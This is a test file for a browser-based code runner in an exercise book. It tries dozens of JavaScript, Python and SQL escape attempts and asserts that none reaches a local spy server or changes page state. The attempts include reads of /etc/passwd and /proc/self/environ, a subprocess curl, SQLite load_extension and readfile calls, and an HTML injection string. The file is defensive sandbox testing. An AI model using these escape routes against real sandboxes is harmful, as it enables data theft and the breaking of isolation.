/**
 * Code that wants out: every route to the network, to storage, to the page and to its parent that Python, SQL and JavaScript
 * have is tried in the runner: on a page from a host, on one from a disk, and on one that was kept for reading offline. A second
 * server counts what arrives, which is nothing; the page and what it keeps stay as they were.
 */
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { servedBook } from "./exercise-book.mjs";
import { reader, serve } from "./harness.mjs";

const server = servedBook();
let spy;
const arrived = [];
before(async () => {
  spy = createServer((request, response) => {
    arrived.push(request.url);
    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/javascript" });
    response.end("self.arrived = true;");
  });
  spy.on("connection", (socket) => socket.on("error", () => undefined));
  await new Promise((done) => spy.listen(0, "127.0.0.1", () => done(undefined)));
});
after(() => {
  spy.closeAllConnections();
  spy.close();
});

/** Each stands in the way of the next only if it never ends; what it throws is its own affair. */
const JAVASCRIPT = {
  fetch: "fetch(URL_);",
  "fetch, no-cors": 'fetch(URL_, { mode: "no-cors", keepalive: true });',
  "fetch of the prototype": "Object.getPrototypeOf(self).constructor.prototype.fetch?.call(self, URL_); WorkerGlobalScope.prototype.fetch.call(self, URL_);",
  "fetch of the site itself": "fetch(SITE_);",
  XMLHttpRequest: 'const x = new XMLHttpRequest(); x.open("GET", URL_, false); x.send();',
  WebSocket: 'new WebSocket(URL_.replace("http", "ws"));',
  EventSource: "new EventSource(URL_);",
  WebTransport: 'new WebTransport(URL_.replace("http:", "https:"));',
  importScripts: "importScripts(URL_);",
  import: "import(URL_);",
  "import of data": 'import("data:text/javascript,fetch(" + JSON.stringify(URL_) + ")");',
  "a worker": "new Worker(URL_);",
  "a worker from a blob": 'new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(URL_) + "); importScripts(" + JSON.stringify(URL_) + ")"])));',
  "a module worker from a blob": 'new Worker(URL.createObjectURL(new Blob(["import " + JSON.stringify(URL_)], { type: "text/javascript" })), { type: "module" });',
  "a worker from data": 'new Worker("data:text/javascript,fetch(" + encodeURIComponent(JSON.stringify(URL_)) + ")");',
  "a shared worker": "new SharedWorker(URL_);",
  "a service worker": "navigator.serviceWorker.register(URL_);",
  FontFace: 'const f = new FontFace("x", "url(" + URL_ + ")"); self.fonts?.add(f); f.load();',
  sendBeacon: "navigator.sendBeacon(URL_, 'x');",
  RTCPeerConnection: 'new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + new URL(URL_).port }] }).createDataChannel("x");',
  "compileStreaming": "WebAssembly.compileStreaming(fetch(URL_));",
  "a location": "self.location = URL_; location.href = URL_;",
  eval: 'eval("fetch(URL_)");',
  Function: 'new Function("u", "fetch(u)")(URL_);',
  "a timer from text": 'setTimeout("fetch(\'" + URL_ + "\')", 0);',
  indexedDB: 'indexedDB.open("hostile").onsuccess = () => { throw new Error("opened"); };',
  caches: 'caches.open("hostile").then((c) => c.put("/hostile", new Response("x")));',
  "private files": 'navigator.storage.getDirectory().then((d) => d.getFileHandle("hostile", { create: true }));',
  localStorage: 'localStorage.setItem("hostile", "1");',
  cookieStore: 'cookieStore.set("hostile", "1");',
  locks: 'navigator.locks.request("hostile", () => new Promise(() => undefined));',
  BroadcastChannel: 'new BroadcastChannel("cuebook").postMessage({ hostile: true });',
  parent: 'parent.document.title = "hostile"; top.location = URL_;',
  document: 'document.body.innerHTML = "hostile";',
  "a message to the page": 'self.postMessage({ kind: "out", text: "<img src=x onerror=hostile>" }); self.postMessage({ do: "load", script: "x" });',
  "a message of another kind": 'self.postMessage(new Proxy({}, {})); self.postMessage("hostile"); self.postMessage({ kind: { toString() { throw 1; } } });',
  "Notification": 'new Notification("hostile"); Notification.requestPermission();',
};
const PYTHON = {
  "js.fetch": "import js\njs.fetch(URL_)",
  "pyfetch": "import asyncio\nfrom pyodide.http import pyfetch\nasyncio.run(pyfetch(URL_))",
  open_url: "from pyodide.http import open_url\nopen_url(URL_)",
  urllib: "import urllib.request\nurllib.request.urlopen(URL_, timeout=2)",
  "http.client": "import http.client, urllib.parse\nhttp.client.HTTPConnection(urllib.parse.urlparse(URL_).netloc, timeout=2).request('GET', '/')",
  socket: "import socket, urllib.parse\np = urllib.parse.urlparse(URL_)\nsocket.create_connection((p.hostname, p.port), timeout=2).send(b'GET / HTTP/1.0\\r\\n\\r\\n')",
  XMLHttpRequest: "import js\nx = js.XMLHttpRequest.new()\nx.open('GET', URL_, False)\nx.send()",
  WebSocket: "import js\njs.WebSocket.new(URL_.replace('http', 'ws'))",
  run_js: "from pyodide.code import run_js\nrun_js('fetch(\"' + URL_ + '\")')",
  "a package": "import asyncio, pyodide_js\nasyncio.run(pyodide_js.loadPackage(URL_ + 'x.whl'))",
  micropip: "import micropip",
  "a file": "open('/etc/passwd').read()\nopen('/proc/self/environ').read()",
  "a process": "import subprocess\nsubprocess.run(['curl', URL_])",
};
const SQL = {
  "another database": "ATTACH 'URL_' AS other; SELECT * FROM other.sqlite_master;",
  "a file": "ATTACH '/etc/passwd' AS other; SELECT * FROM other.sqlite_master;",
  "an extension": "SELECT load_extension('URL_');",
  readfile: "SELECT readfile('/etc/passwd');",
};

/** A reader who has kept the book and what runs its code, and whose host is gone. */
async function offline() {
  const host = await serve(server.folder);
  const kept = await reader({ server: host });
  await kept.go("study.html");
  for (const id of ["*", "run:python", "run:sql"]) {
    const item = kept.page.locator(`.offline-tracks li[data-track="${id}"]`);
    await item.getByRole("button").click({ timeout: 60_000 });
    await item.getByRole("button", { name: /^Remove/ }).waitFor({ timeout: 120_000 });
  }
  await host.close();
  return kept;
}

/** @param {"http"|"file"|"offline"} where */
async function readerOf(where) {
  if (where === "offline") return offline();
  return reader({ server, where, folder: server.folder });
}

const LANGUAGES = [["js", "javascript", JAVASCRIPT], ["py", "python", PYTHON], ["sql", "sql", SQL]];
for (const [where, page_, language, routes] of ["http", "file", "offline"].flatMap((where) => LANGUAGES.map((one) => [where, ...one]))) {
  test(`${language} (${where}): ${Object.keys(routes).length} ways out lead nowhere`, { timeout: 900_000 }, async () => {
    const { page, go, context, base, close } = await readerOf(where);
    await go(`t/${page_}.html`);
    await page.getByRole("button", { name: "Write it" }).first().click();
    await page.getByRole("textbox", { name: "Your code" }).first().waitFor();
    const state = () => page.evaluate(async () => JSON.stringify([document.title, location.href, Object.entries(localStorage).sort(), document.cookie,
      globalThis.caches ? await caches.keys().then((names) => names.filter((name) => !/:offline:/.test(name)), () => []) : [],
      (await indexedDB.databases()).length, "hostile" in globalThis]));
    await page.evaluate(() => {
      globalThis.heard = [];
      new BroadcastChannel("cuebook").onmessage = (event) => globalThis.heard.push(event.data);
    });
    const before = await state();
    const address = `http://127.0.0.1:${spy.address().port}/`;
    for (const [name, code] of Object.entries(routes)) {
      const named = encodeURIComponent(name);
      const full = language === "sql" ? code.replaceAll("URL_", address + named)
        : language === "python" ? `URL_ = ${JSON.stringify(address + named)}\n${code}` : `const URL_ = ${JSON.stringify(address + named)}, SITE_ = ${JSON.stringify(base)};\n${code}`;
      await page.evaluate(([language, code]) => cuebook.runner.of(language).run({ before: "", code, check: "" }), [language, full]);
    }
    await page.waitForTimeout(2500);
    assert.deepEqual(arrived, []);
    assert.equal(await state(), before);
    assert.deepEqual(await page.evaluate(() => globalThis.heard), []);
    assert.equal(context.pages().length, 1);
    // The runner still works.
    const last = await page.evaluate(([language, code]) => cuebook.runner.of(language).run({ before: "", code, check: "" }),
      [language, { javascript: "console.log(1)", python: "print(1)", sql: "select 1" }[language]]);
    assert.deepEqual([last.end, last.out.trim()], ["done", "1"]);
    await close();
  });
}

test("the spy counts what does arrive", async () => {
  const { page, close } = await reader({ server });
  await page.goto(`http://127.0.0.1:${spy.address().port}/seen`);
  assert.ok(arrived.includes("/seen"));
  await close();
});
